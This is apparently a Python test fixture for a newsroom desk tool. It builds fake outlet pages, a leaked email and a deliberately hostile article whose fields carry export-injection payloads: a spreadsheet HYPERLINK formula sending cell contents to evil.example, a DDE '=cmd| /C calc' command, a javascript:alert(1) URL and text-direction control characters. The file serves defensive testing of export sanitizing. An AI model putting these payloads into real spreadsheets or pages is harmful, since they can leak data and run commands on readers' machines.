"""A desk whose everything can be exported: the invented story through five outlets, with addresses on the web, ratings,
judgements, notes, a watch list, an issue; and texts that would do harm in a cell, a document, a terminal."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

from tests.desk import told
from tests.show.people import reading, said

from headwater import pipeline
from headwater.desk.store import Desk
from headwater.records import Article, Capture, Issue, Link, Reading

SECRET = "Zqxvorbul"
"""Stands in a note in the margin alone."""
JUDGE = "Wilhelmina Judge"
"""Who judged, and wrote the note."""
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"press")'
LONG = "word " * 6_700
HOSTILE = (
    f"{FORMULA} said \"+1+1\";=cmd|' /C calc'!A0\nVisitor said that @SUM(A1) \u202eseized the _x0041_ mill & <b>all</b> ]]>"
    f" of it \x07 at \u2028 once. Visitor said that {LONG}."
)
LETTER = (
    b"From: source@leak.example\r\nTo: desk@paper.example\r\nSubject: x\r\n\r\nThe mill was sold, Ada Brill said.\r\n"
)


def hostile() -> Reading:
    """Every field of it is somebody's weapon."""
    statements = (
        replace(
            said(HOSTILE, "s1", "Visitor", None, HOSTILE[HOSTILE.index("@SUM") : HOSTILE.index(" once")], "said"),
            chain=(Link("-Evil & <Post>", None, "outlet", "named"), Link("=Visitor\t", None, "person", "described")),
        ),
        replace(said(HOSTILE, "s2", "Visitor", None, LONG.strip(), "said"), chain=()),
    )
    made = reading("a0000000bad1", HOSTILE, "en", "-Evil & <Post>", "2026-03-05", (), *statements)
    return replace(made, article=replace(made.article, title=f"\t{FORMULA}", url="javascript:alert(1)"))


def paged(name: str) -> tuple[Capture, Reading]:
    """An article of the story as if it had been fetched from the web as a page."""
    capture, made = told.items()[name]
    article: Article = made.article
    url = f"https://{name}.example/news/{name}?id=1"
    body = f"<html><title>{article.title}</title><p>{article.text}</p></html>".encode()
    sha256 = hashlib.sha256(body).hexdigest()
    capture = replace(
        capture, body=body, sha256=sha256, media_type="text/html", encoding="utf-8", url=url, source=f"/home/ada/{name}"
    )
    ref = replace(article.capture, sha256=sha256)
    return capture, replace(made, article=replace(article, url=url, capture=ref))


def letter() -> tuple[Capture, Reading]:
    """What somebody sent to the newsroom."""
    text = "The mill was sold, Ada Brill said."
    made = reading("a00000001e77", text, "en", "The Letter", "2026-03-06", ())
    sha256 = hashlib.sha256(LETTER).hexdigest()
    capture = Capture(sha256, "2026-03-06T10:00:00Z", "/home/ada/leaks/letter.eml", "message/rfc822", LETTER)
    return capture, made


def fill(path: Path) -> None:
    """Makes the desk."""
    with Desk(path, rules=pipeline.RULES, weighing=pipeline.WEIGHING) as desk:
        for name in ("wire", "daily", "vesti", "post", "other"):
            desk.add(*paged(name))
        made = hostile()
        body = HOSTILE.encode("utf-8", "replace")
        sha256 = hashlib.sha256(body).hexdigest()
        desk.add(Capture(sha256, "2026-03-05T09:00:00Z", "/home/ada/bad.txt", "text/plain", body), made)
        desk.add(*letter())
        desk.note_issue(Issue("broken", "/home/ada/in/long.pdf: the file ends in the middle", "/home/ada/in/long.pdf"))
        claim = told.row_of(desk, told.RELEASE).claim
        desk.rate(claim, "2", JUDGE)
        for entry in desk.entries(limit=3):
            desk.rate(entry.entity, "B", JUDGE)
        desk.note_on(claim, f"{SECRET} is not to leave", JUDGE)
        names = path.with_name("names.csv")
        names.write_text("name\nIlda Marrow\n", encoding="utf-8")
        desk.add_watchlist("=names", names)
        desk.enter_log("log begun", "")


def claim(desk: Desk) -> str:
    """The claim about the release."""
    return told.row_of(desk, told.RELEASE).claim


def story(desk: Desk) -> str:
    """The story with most articles."""
    return max(desk.stories(), key=lambda row: row.articles).story
